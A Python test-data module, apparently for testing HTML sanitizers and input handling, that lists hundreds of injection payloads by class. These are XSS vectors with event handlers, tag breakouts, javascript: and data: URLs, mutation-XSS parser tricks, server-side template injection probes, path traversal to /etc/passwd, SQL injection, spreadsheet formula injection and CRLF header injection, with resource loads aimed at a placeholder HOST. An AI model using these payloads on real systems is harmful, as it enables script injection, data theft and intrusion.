"""Texts that a page, a server or a member may bring and that want to be more than text, by class.

`canary()` counts a script that runs; HOST is the address of a server that counts requests.
"""

# ruff: noqa: E501

from __future__ import annotations

from itertools import product
from typing import Final

_SINKS: Final = ("<svg onload=canary()>", "<img src=//HOST/x onerror=canary()>", "<script>canary()</script>")
ELEMENTS: Final = [
    f"<{name} {attributes}>"
    for name, attributes in (
        ("img", "src=//HOST/img"), ("img", "srcset='//HOST/set 1x'"), ("video", "src=//HOST/v autoplay"),
        ("audio", "src=//HOST/a autoplay"), ("video", "poster=//HOST/poster"), ("iframe", "src=//HOST/frame"),
        ("iframe", "srcdoc='<script>parent.canary()</script>'"), ("embed", "src=//HOST/embed"),
        ("object", "data=//HOST/object"), ("link", "rel=stylesheet href=//HOST/css"),
        ("link", "rel=prefetch href=//HOST/prefetch"), ("link", "rel=preload as=image href=//HOST/preload"),
        ("link", "rel=preconnect href=//HOST"), ("link", "rel=dns-prefetch href=//HOST"),
        ("link", "rel=icon href=//HOST/icon"), ("link", "rel=manifest href=//HOST/manifest"),
        ("script", "src=//HOST/js></script"), ("script", "type=module src=//HOST/mjs></script"),
        ("script", "type=speculationrules>{\"prefetch\":[{\"urls\":[\"//HOST/s\"]}]}</script"),
        ("meta", "http-equiv=refresh content='0;url=//HOST/refresh'"), ("base", "href=//HOST/"),
        ("body", "background=//HOST/bg"), ("table", "background=//HOST/bg"), ("input", "type=image src=//HOST/in"),
        ("form", "action=//HOST/form><button autofocus>x</button></form"), ("track", "src=//HOST/track"),
        ("source", "src=//HOST/source"), ("svg", "><image href=//HOST/svg /></svg"),
        ("svg", "><use href=//HOST/use#x /></svg"), ("svg", "><script href=//HOST/svgjs /></svg"),
        ("svg", "><foreignObject><iframe src=//HOST/fo></foreignObject></svg"),
        ("math", "><mi xlink:href='javascript:canary()'>x</mi></math"), ("frameset", "onload=canary()"),
        ("style", ">@import '//HOST/import';</style"), ("style", ">*{background:url(//HOST/all)}</style"),
        ("style", ">@font-face{font-family:x;src:url(//HOST/font)}*{font-family:x}</style"),
        ("div", "style='background:url(//HOST/style)'"), ("p", "style=\"content:url('//HOST/content')\""),
        ("portal", "src=//HOST/portal"), ("fencedframe", "src=//HOST/fenced"), ("img", "src=x ping=//HOST/ping"),
        ("a", "href=//HOST/a ping=//HOST/ping>x</a"), ("bgsound", "src=//HOST/bgsound"), ("applet", "code=//HOST/ap"),
    )
]  # fmt: skip
"""Elements that load something."""
HANDLERS: Final = [
    f"<{name} {event}=canary() {rest}>"
    for name, event, rest in (
        ("svg", "onload", ""), ("body", "onload", ""), ("body", "onpageshow", ""), ("img", "onerror", "src=x"),
        ("video", "onerror", "><source src=x"), ("audio", "onerror", "src=x"), ("input", "onfocus", "autofocus"),
        ("select", "onfocus", "autofocus"), ("textarea", "onfocus", "autofocus"), ("details", "ontoggle", "open"),
        ("marquee", "onstart", ""), ("object", "onerror", "data=x"), ("iframe", "onload", "src=about:blank"),
        ("style", "onload", "></style"), ("link", "onerror", "rel=stylesheet href=x"), ("script", "onerror", "src=x"),
        ("div", "onanimationstart", "style='animation:x'"), ("div", "ontransitionend", "style='transition:1s'"),
        ("div", "onpointerrawupdate", ""), ("a", "onfocus", "href=x autofocus"), ("button", "onfocus", "autofocus"),
        ("div", "onmouseover", ""), ("div", "oncontentvisibilityautostatechange", "style=content-visibility:auto"),
        ("video", "onloadstart", "src=x"), ("img", "onloadstart", "src=x"), ("dialog", "oncancel", "open"),
        ("div", "onbeforematch", "hidden=until-found"), ("svg", "onbegin", "><animate onbegin=canary() attributeName=x"),
        ("body", "onhashchange", ""), ("body", "onresize", ""), ("xss", "onfocus", "tabindex=0 autofocus"),
        ("div", "onscrollend", ""), ("meter", "onmouseover", ""), ("keygen", "onfocus", "autofocus"),
    )
]  # fmt: skip
"""Elements with a handler."""
BREAKOUTS: Final = [
    f"{out}{sink}"
    for out, sink in product(
        ("</title>", "</textarea>", "</pre>", "</style>", "</script>", "</noscript>", "</template>", "-->", "]]>",
         "\">", "'>", "` >", "</svg>", "</select></option>", "</bdi></a></td></tr></table>", "<!--><", "<![CDATA["),
        _SINKS,
    )
]  # fmt: skip
"""Ways out of an element, a comment or an attribute, each with three goals."""
ATTRIBUTES: Final = [
    "\" onmouseover=\"canary()", "' onfocus='canary()' autofocus='", "` onload=canary() `", " onclick=canary() ",
    "\" autofocus onfocus=canary() x=\"", "\"\tonfocus\t=\tcanary()\tautofocus\t", "x\" style=\"background:url(//HOST/q)",
    "x' srcset='//HOST/q 1x", "\"/**/onload=canary()", "\n\" onload=\"canary()\"\n", "\u00a0onload=canary()",
    "&quot; onload=canary() &quot;", "&#34; onload=canary()", "%22 onload=canary()", "\\\" onload=canary()",
]  # fmt: skip
"""Ends of an attribute's value."""
LINKS: Final = [
    "javascript:canary()", "JaVaScRiPt:canary()", " javascript:canary()", "java\tscript:canary()", "java\nscript:canary()",
    "\x01javascript:canary()", "javascript&colon;canary()", "&#106;avascript:canary()", "javascript://%0acanary()",
    "vbscript:canary()", "data:text/html,<script>canary()</script>", "data:text/html;base64,PHNjcmlwdD5jYW5hcnkoKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=canary()>", "blob:http://HOST/x", "filesystem:http://HOST/x", "view-source:http://HOST/",
    "file:///etc/passwd", "//HOST/scheme-relative", "\\\\HOST\\unc", "http:HOST", "ftp://HOST/", "intent://HOST#Intent;end",
    "http://a.test/'><script>canary()</script>", "http://a.test/\"onmouseover=\"canary()", "about:blank#canary()",
    "http://127.0.0.1:8080@HOST/", "http://HOST\u3002test/", "http://a.test/%00<script>canary()</script>",
    "feed:javascript:canary()", "jar:javascript:canary()!/", "mhtml:http://HOST/",
]  # fmt: skip
"""Addresses that are more than addresses."""
TEMPLATES: Final = [
    "{{ 7*7 }}", "{% for x in range(9) %}canary(){% endfor %}", "{{ ''.__class__.__mro__ }}", "{{ config }}", "${7*7}",
    "#{7*7}", "<%= 7*7 %>", "{{constructor.constructor('canary()')()}}", "%(evil)s %s %n", "{0.__class__}", "{{request}}",
    "{#", "{{", "}}", "{% raw %}", "$(canary())", "`canary()`", "@{7*7}", "[[${7*7}]]", "*{7*7}",
]  # fmt: skip
"""Languages of templates and of formats."""
ENCODINGS: Final = [
    "&lt;script&gt;canary()&lt;/script&gt;", "%3Cscript%3Ecanary()%3C/script%3E", "\\u003cscript\\u003ecanary()\\u003c/script\\u003e",
    "\\x3cscript\\x3ecanary()\\x3c/script\\x3e", "+ADw-script+AD4-canary()+ADw-/script+AD4-", "&#x3c;script&#x3e;canary()",
    "\u00bcscript\u00becanary()\u00bc/script\u00be", "\uff1cscript\uff1ecanary()\uff1c/script\uff1e", "<\u0000script>canary()</script>",
    "<scr\u00adipt>canary()</script>", "<script\x0c>canary()</script>", "<script\u2028>canary()</script>", "<sCrIpT>canary()</ScRiPt>",
    "<scr<script>ipt>canary()</scr</script>ipt>", "<<script>canary();//<</script>", "<script>canary()", "<img src=x onerror=canary()//",
    "\ufeff<script>canary()</script>", "\u1ea0\u0300<script>canary()</script>", "\ud83d<script>canary()</script>",
    "<noscript><p title='</noscript><img src=x onerror=canary()>'>", "<math><mtext><table><mglyph><style><img src=x onerror=canary()>",
    "<svg><style><img src=x onerror=canary()></style></svg>", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=canary()>",
    "<template shadowrootmode=open><script>canary()</script></template>", "<?xml-stylesheet href='//HOST/xsl'?>", "<!DOCTYPE x SYSTEM '//HOST/dtd'>",
    "<!--[if IE]><script>canary()</script><![endif]-->", "<xml:script>canary()</xml:script>", "<img/src=x/onerror=canary()>",
]  # fmt: skip
"""Markup in other spellings, and what parsers read in two ways."""
SEEMING: Final = [
    "\u202egnp.exe", "\u2066\u202e evil \u2069", "\u200b\u200c\u200d\ufeff", "\u061c\u180e", "a\u0300\u0301" * 40, "\x1b[31mred\x1b[0m",
    "\x1b]0;title\x07", "\x00\x01\x02\x7f\x80\x9f", "\U000e0041\U000e0042", "\ufff9a\ufffab\ufffb", "раypal.com", "\u2028\u2029", "\r\n\r\nX: y",
    "\ufdfd" * 20, "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319" * 10, "\U0001f469\u200d\U0001f469\u200d\U0001f467",
    "../../../../etc/passwd", "'; DROP TABLE pages; --", "\" OR 1=1 --", "null", "undefined", "NaN", "-1", "1e999", "True", "__proto__",
    "constructor", "[object Object]", "\u0e47" * 60, "=cmd|' /C calc'!A0", "@SUM(1)", "\t", " " * 200, "\ud800", "\u4e00" * 300,
]  # fmt: skip
"""Directions, invisible characters, terminals, spreadsheets, words that programs take for others."""
CLASSES: Final = {
    "elements": ELEMENTS, "handlers": HANDLERS, "breakouts": BREAKOUTS, "attributes": ATTRIBUTES, "links": LINKS,
    "templates": TEMPLATES, "encodings": ENCODINGS, "seeming": SEEMING,
}  # fmt: skip


def texts(host: str) -> list[str]:
    """All of them, with the address of the server that counts."""
    return [one.replace("HOST", host) for of_class in CLASSES.values() for one in of_class]
